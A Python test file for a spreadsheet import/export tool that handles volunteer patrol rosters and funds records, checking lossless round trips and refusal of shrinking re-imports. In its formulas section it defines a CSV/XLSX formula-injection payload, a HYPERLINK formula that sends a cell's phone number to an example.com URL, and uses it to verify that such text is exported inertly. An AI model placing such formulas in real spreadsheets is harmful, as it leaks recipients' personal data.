"""Import and export lose nothing (issue 11): every unit and form of the
example goes out to XLSX and back with the same data and the same scores; a
re-import that would empty a roster is refused and says what it would change;
formulas never travel either way."""
from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from booklet import build
from booklet.annex.exporter import export_unit
from booklet.annex.importer import import_file, import_spreadsheet
from booklet.annex.load import load_annex
from booklet.cli import main
from booklet.errors import BookletError
from booklet.load import load_project

from conftest import write_project

ANNEX = Path("assessments") / "annex"


def plain(ua):
    """Everything an annex object holds, without source places."""
    r, d, f = ua.roster, ua.duty, ua.funds
    return (
        r and (r.year, [(t.name, t.type, t.founded, [(m.name, m.age, m.phone, m.role, m.address)
                                                    for m in t.members]) for t in r.teams]),
        d and (d.year, [(x.period, x.filed, x.station,
                         [(y.date, y.time, y.members, y.phone, y.area) for y in x.rows])
                        for x in d.filings]),
        f and (f.year, [(q.date, q.department, q.applicant, q.purpose, q.requested, q.approved,
                         q.approver, q.remarks) for q in f.requests]))


def scores(root: Path):
    project, problems = build.load_and_validate(root)
    assert project is not None and not problems.errors, problems.report()
    return sorted((r.rubric_id, r.period, r.unit_id, r.total, r.vetoed, r.grade,
                   tuple((i.item_id, i.score) for i in r.items)) for r in build.score(project))


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def roundtrip(root: Path, out: Path) -> None:
    """booklet export, then booklet import --force of every file it wrote."""
    project, _ = load_project(root)
    for uid, ua in sorted(project.annex.items()):
        for f in export_unit(ua, out, project.config.unit(uid), project.config.year):
            import_file(root, project.config, f.stem, f, uid, force=True)


def test_every_unit_and_form_of_the_example_goes_out_and_back_unchanged(example_copy, tmp_path):
    r1 = example_copy / ANNEX / "2017" / "hutang-01" / "roster.yml"
    # a team founded in May does not count for Q1 (2 points of item 2 for hutang-01)
    edit(r1, "  - name: 平安志愿者二队\n    type: 社会化队伍\n",
         "  - name: 平安志愿者二队\n    type: 社会化队伍\n    founded: 2017-05-01\n")
    edit(example_copy / ANNEX / "2017" / "hutang-02" / "roster.yml", "address: 湖塘镇", "address: 湖塘镇  东区 ")
    project, problems = load_project(example_copy)
    assert not problems.errors, problems.report()
    before = {uid: plain(ua) for uid, ua in project.annex.items()}
    assert len(before) == 5 and all(None not in v for v in before.values())
    scored = scores(example_copy)
    without = tmp_path / "without"
    import shutil
    shutil.copytree(example_copy, without)
    edit(without / ANNEX / "2017" / "hutang-01" / "roster.yml", "    founded: 2017-05-01\n", "")
    assert scores(without) != scored            # the founded date matters to the scores

    roundtrip(example_copy, tmp_path / "out")

    project, problems = load_project(example_copy)
    assert not problems.errors, problems.report()
    after = {uid: plain(ua) for uid, ua in project.annex.items()}
    for uid in before:
        assert after[uid] == before[uid], uid
    assert after["hutang-01"][0][1][2][2] == date(2017, 5, 1)
    assert "湖塘镇  东区" in after["hutang-02"][0][1][0][3][0][4]
    assert scores(example_copy) == scored


def test_a_year_other_than_the_projects_survives(tmp_path):
    """An older-layout file that says year: 2016 goes out with a 年度 column and
    comes back into the 2016 folder, where a 2016 project reads the same data."""
    proj = write_project(tmp_path / "proj")
    funds = proj / ANNEX / "east" / "funds.yml"
    funds.parent.mkdir(parents=True)
    funds.write_text("unit: east\nyear: 2016\nrequests:\n"
                     "  - {date: 2016-11-02, department: 社区居委会, applicant: 张建国, purpose: 购置手电筒,"
                     " requested: 860, approved: 800, approver: 周某}\n", encoding="utf-8")
    project, problems = load_project(proj)
    assert not problems.errors, problems.report()
    before = plain(project.annex["east"])
    files = export_unit(project.annex["east"], tmp_path / "out", None, project.config.year)
    assert load_workbook(files[0]).active["A1"].value == "年度"
    r = import_spreadsheet(proj, project.config, "funds", files[0], "east")
    assert r.target == proj / ANNEX / "2016" / "east" / "funds.yml"
    assert (r.year, r.year_from, r.moved) == (2016, "表中的年度列", None)
    assert "year: 2016" in r.target.read_text(encoding="utf-8")
    funds.unlink()
    cfg = proj / "booklet.yml"
    cfg.write_text(cfg.read_text(encoding="utf-8").replace("year: 2017", "year: 2016"), encoding="utf-8")
    project, problems = load_project(proj)
    assert not [p for p in problems.errors if "annex" in p.loc.file], problems.report()
    assert plain(project.annex["east"]) == before and before[2][0] == 2016


# ---------------------------------------------------------------- formulas

LEAK = '=HYPERLINK("http://example.com/?leak="&E2,"点此查看")'


def test_export_writes_text_that_looks_like_a_formula_as_text(tmp_path):
    proj = write_project(tmp_path / "proj")
    roster = proj / ANNEX / "2017" / "east" / "roster.yml"
    roster.parent.mkdir(parents=True)
    roster.write_text(
        "unit: east\nteams:\n  - name: \"=1+1\"\n    type: 社会化队伍\n    members:\n"
        f"      - {{name: 张建国, age: 45, phone: \"13900000101\", role: 队长, address: '{LEAK}'}}\n"
        "      - {name: 李秀英, age: 38, phone: \"13900000102\", role: 队员, address: \"+86 东门路\"}\n",
        encoding="utf-8")
    project, problems = load_project(proj)
    assert not problems.errors, problems.report()
    [xlsx] = export_unit(project.annex["east"], tmp_path / "out", None, 2017)
    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(xlsx).active
    assert (ws["A2"].value, ws["A2"].data_type) == ("=1+1", "s")
    assert (ws["H2"].value, ws["H2"].data_type) == (LEAK, "s")
    import_file(proj, project.config, "roster", xlsx, "east", force=True)
    back, problems = load_annex(proj, project.config)
    team = back["east"].roster.teams[0]
    assert (team.name, team.members[0].address, team.members[1].address) == \
        ("=1+1", LEAK, "+86 东门路")


def test_a_formula_without_a_saved_value_is_reported_not_dropped(tmp_path):
    proj = write_project(tmp_path / "proj")
    wb = Workbook()
    ws = wb.active
    ws.title = "花名册"
    ws.append(["队伍名称", "队伍类型", "姓名", "年龄", "联系电话", "职务", "家庭住址"])
    ws.append(["专职巡防队", "专职化队伍", "张建国", 45, "13900000101", "队长", "东门路1号"])
    ws.append([None, None, "李秀英", "=2017-1979", "13900000102", "队员", "=A2&\"2号\""])
    ws.append([None, None, "王志强", 52, "13900000103", "队员", "东门路3号"])
    wb.save(tmp_path / "r.xlsx")                 # openpyxl saves no computed values
    with pytest.raises(BookletError) as e:
        import_file(proj, write_config(proj), "roster", tmp_path / "r.xlsx", "east")
    [err] = e.value.problems.errors
    assert err.code == "import-formula"
    text = err.format()
    assert "表 花名册 第 3 行" in text and "D、G 列是公式" in text and "保存一次" in err.fix
    assert not (proj / ANNEX / "2017" / "east" / "roster.yml").exists()


def write_config(proj: Path):
    project, _ = load_project(proj)
    return project.config


# ---------------------------------------------------------------- re-import

HEADER = ["队伍名称", "队伍类型", "姓名", "年龄", "联系电话", "职务", "家庭住址"]


def roster_xlsx(path: Path, members: list[tuple]) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for team, ttype, name, n in members:
        ws.append([team, ttype, name, 40, f"139000001{n:02d}", "队员", f"东门路{n}号"])
    wb.save(path)
    return path


MEMBERS = [("专职巡防队", "专职化队伍", n, i) for i, n in enumerate(["张建国", "李秀英", "王志强"], 1)] + \
          [("平安志愿者队", "社会化队伍", n, i) for i, n in enumerate(["赵丽华", "钱海峰", "孙玉兰"], 4)]


def test_a_sheet_with_headers_and_no_rows_does_not_empty_a_roster(tmp_path, capsys):
    proj = write_project(tmp_path / "proj")
    cfg = write_config(proj)
    import_file(proj, cfg, "roster", roster_xlsx(tmp_path / "full.xlsx", MEMBERS), "east")
    target = proj / ANNEX / "2017" / "east" / "roster.yml"
    kept = target.read_text(encoding="utf-8")
    empty = roster_xlsx(tmp_path / "empty.xlsx", [])
    with pytest.raises(BookletError) as e:
        import_file(proj, cfg, "roster", empty, "east", force=True)
    [err] = e.value.problems.errors
    assert err.code == "import-shrink" and "6 项中的 6 项" in err.what
    assert "删除队伍：专职巡防队、平安志愿者队" in err.what and "删除队员 6 人" in err.what
    assert "--allow-shrink" in err.fix
    assert target.read_text(encoding="utf-8") == kept
    with pytest.raises(SystemExit) as e:
        main(["import", "roster", str(empty), "--unit", "east", "--force", str(proj)])
    assert e.value.code == 1 and "--allow-shrink" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == kept
    with pytest.raises(SystemExit) as e:
        main(["import", "roster", str(empty), "--unit", "east", "--force", "--allow-shrink", str(proj)])
    assert e.value.code == 0
    assert "teams: []" in target.read_text(encoding="utf-8") or "teams:\n" in target.read_text(encoding="utf-8")
    project, _ = load_project(proj)
    assert project.annex["east"].roster.teams == []


def test_a_reimport_prints_what_changed_and_each_team(tmp_path, capsys):
    proj = write_project(tmp_path / "proj")
    cfg = write_config(proj)
    import_file(proj, cfg, "roster", roster_xlsx(tmp_path / "a.xlsx", MEMBERS), "east")
    changed = MEMBERS[:5] + [("平安志愿者队", "社会化队伍", "周凤英", 7), ("楼道长队", "楼道长", "吴芳", 8)]
    src = roster_xlsx(tmp_path / "b.xlsx", changed)
    r = import_spreadsheet(proj, cfg, "roster", src, "east", force=True)
    assert r.changes == ["新增队伍：楼道长队", "新增队员 2 人：周凤英、吴芳", "删除队员 1 人：孙玉兰"]
    assert r.summary == ["专职巡防队（专职化队伍）3 人", "平安志愿者队（社会化队伍）3 人", "楼道长队（楼道长）1 人"]
    with pytest.raises(SystemExit) as e:
        main(["import", "roster", str(src), "--unit", "east", "--force", str(proj)])
    assert e.value.code == 0
    out = capsys.readouterr().out
    assert "内容没有变化" in out and "楼道长队（楼道长）1 人" in out


def test_a_funds_reimport_names_changed_approvals(tmp_path):
    proj = write_project(tmp_path / "proj")
    cfg = write_config(proj)

    def funds(path, approved):
        wb = Workbook()
        ws = wb.active
        ws.append(["申请日期", "申请部门", "申请人", "用款事由", "申请金额", "批准金额", "批准人"])
        ws.append([date(2017, 3, 2), "社区居委会", "张建国", "购置巡防用具", 6007.14, approved, "周某"])
        ws.append([date(2017, 7, 10), "社区居委会", "张建国", "防暑降温用品", 1200, 1000, "周某"])
        wb.save(path)
        return path

    import_file(proj, cfg, "funds", funds(tmp_path / "a.xlsx", 6000), "east")
    r = import_spreadsheet(proj, cfg, "funds", funds(tmp_path / "b.xlsx", 5000), "east", force=True)
    assert r.changes == ["审批改变：2017-03-02 购置巡防用具：6000 元 → 5000 元"]
